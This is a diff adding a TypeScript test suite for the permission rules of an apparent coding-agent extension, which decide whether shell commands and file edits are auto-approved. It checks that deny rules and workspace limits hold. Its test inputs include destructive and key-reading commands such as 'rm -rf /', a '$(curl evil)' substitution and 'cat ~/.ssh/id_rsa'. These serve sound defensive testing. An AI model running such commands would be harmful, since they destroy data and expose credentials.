@@ -0,0 +1,100 @@
+import * as assert from 'assert';
+import {
+  PermissionRequest, PermissionRule, describePermissionRequest, evaluatePermission, globToRegExp, parsePermissionRules, ruleFromApproval,
+} from '../permissionRules';
+
+const shell = (command: string): PermissionRequest => ({ toolName: 'run_shell_command', kind: 'exec', title: command, command, paths: [] });
+
+suite('permissionRules', () => {
+  test('validates rules and skips invalid entries', () => {
+    const { rules, errors } = parsePermissionRules([
+      { action: 'allow', tool: 'read_file' },
+      { action: 'maybe', tool: 'x' },
+      { action: 'deny' },
+      { action: 'deny', path: '' },
+    ]);
+
+    assert.deepStrictEqual(rules, [{ action: 'allow', tool: 'read_file' }]);
+    assert.deepStrictEqual(errors, [
+      'iflow.permissionRules[1].action must be "allow" or "deny"',
+      'iflow.permissionRules[2] must set at least one of tool, command or path',
+      'iflow.permissionRules[3].path must be a non-empty string',
+    ]);
+  });
+
+  test('reads tool name, command and paths from an ACP tool call', () => {
+    const request = describePermissionRequest({
+      title: 'Edit src/a.ts',
+      type: 'edit',
+      toolName: 'replace',
+      locations: [{ path: '/ws/src/a.ts' }],
+      content: [{ type: 'diff', path: '/ws/src/b.ts', oldText: 'a', newText: 'b' }],
+      rawInput: { file_path: '/ws/src/a.ts' },
+    });
+
+    assert.deepStrictEqual(request, { toolName: 'replace', kind: 'edit', title: 'Edit src/a.ts', command: undefined, paths: ['/ws/src/a.ts', '/ws/src/b.ts'] });
+  });
+
+  test('matches command prefixes on whole words and never allows chained or redirected commands', () => {
+    const rules = [{ action: 'allow' as const, command: 'npm test' }, { action: 'allow' as const, command: 'echo' }];
+
+    assert.strictEqual(evaluatePermission(rules, shell('npm test -- --grep store'))?.action, 'allow');
+    assert.strictEqual(evaluatePermission(rules, shell('npm tests')), null);
+    assert.strictEqual(evaluatePermission(rules, shell('npm test && rm -rf /')), null);
+    assert.strictEqual(evaluatePermission(rules, shell('npm test $(curl evil)')), null);
+    assert.strictEqual(evaluatePermission(rules, shell('echo x > ~/.bashrc')), null);
+    assert.strictEqual(evaluatePermission(rules, shell('echo x >> ~/.bashrc')), null);
+    assert.strictEqual(evaluatePermission(rules, shell('npm test < input.txt')), null);
+    assert.strictEqual(evaluatePermission(rules, shell('echo <(cat ~/.ssh/id_rsa)')), null);
+  });
+
+  test('deny rules win and match any part of a chained command', () => {
+    const rules = parsePermissionRules([
+      { action: 'allow', tool: 'run_shell_*' },
+      { action: 'deny', command: 'rm' },
+    ]).rules;
+
+    assert.strictEqual(evaluatePermission(rules, shell('ls -la'))?.action, 'allow');
+    assert.strictEqual(evaluatePermission(rules, shell('ls; rm -rf build'))?.action, 'deny');
+  });
+
+  test('matches path globs relative to the workspace folder', () => {
+    const edit = (...paths: string[]): PermissionRequest => ({ toolName: 'write_file', kind: 'edit', title: '', paths });
+    const rules = parsePermissionRules([
+      { action: 'allow', path: 'src/**' },
+      { action: 'deny', path: '**/.env*' },
+    ]).rules;
+
+    assert.strictEqual(evaluatePermission(rules, edit('/ws/src/a/b.ts'), '/ws')?.action, 'allow');
+    assert.strictEqual(evaluatePermission(rules, edit('/ws/src/a.ts', '/ws/package.json'), '/ws'), null);
+    assert.strictEqual(evaluatePermission(rules, edit('/ws/src/.env.local'), '/ws')?.action, 'deny');
+    assert.strictEqual(evaluatePermission(rules, edit('/other/src/a.ts'), '/ws'), null);
+    assert.strictEqual(evaluatePermission(rules, edit('src/../../other/src/a.ts'), '/ws'), null);
+    assert.strictEqual(evaluatePermission(rules, edit('/ws/src/a.ts')), null);
+    assert.strictEqual(evaluatePermission(parsePermissionRules([{ action: 'allow', path: '**/*.ts' }]).rules, edit('/etc/a.ts'), '/ws'), null);
+    assert.strictEqual(evaluatePermission(rules, edit('/other/.env'), '/ws')?.action, 'deny');
+    assert.ok(globToRegExp('*.{ts,js}').test('a.js'));
+    assert.ok(!globToRegExp('*.ts').test('src/a.ts'));
+  });
+
+  test('always allow saves the tool and the command with its subcommand, never a program alone', () => {
+    assert.deepStrictEqual(ruleFromApproval(shell('git status --short')), { action: 'allow', tool: 'run_shell_command', command: 'git status' });
+    assert.strictEqual(ruleFromApproval(shell('ls -la')), null);
+    assert.strictEqual(ruleFromApproval(shell('rm -rf build')), null);
+    assert.strictEqual(ruleFromApproval(shell('ls')), null);
+    assert.strictEqual(ruleFromApproval(shell("bash -c 'rm -rf ~'")), null);
+    assert.strictEqual(ruleFromApproval(shell('python script.py')), null);
+    assert.strictEqual(ruleFromApproval(shell('/usr/bin/env node x.js')), null);
+    assert.deepStrictEqual(ruleFromApproval({ toolName: 'write_file', kind: 'edit', title: '', paths: ['/ws/a.ts'] }), { action: 'allow', tool: 'write_file' });
+  });
+
+  test('allow rules without a path still only approve files inside the workspace', () => {
+    const write = (...paths: string[]): PermissionRequest => ({ toolName: 'write_file', kind: 'edit', title: '', paths });
+    const rules = [ruleFromApproval(write('/ws/a.ts')) as PermissionRule];
+
+    assert.strictEqual(evaluatePermission(rules, write('/ws/src/b.ts'), '/ws')?.action, 'allow');
+    assert.strictEqual(evaluatePermission(rules, write('/home/me/.bashrc'), '/ws'), null);
+    assert.strictEqual(evaluatePermission(rules, write('/ws/a.ts', '/etc/hosts'), '/ws'), null);
+    assert.strictEqual(evaluatePermission(rules, write('../outside.ts'), '/ws'), null);
+  });
+});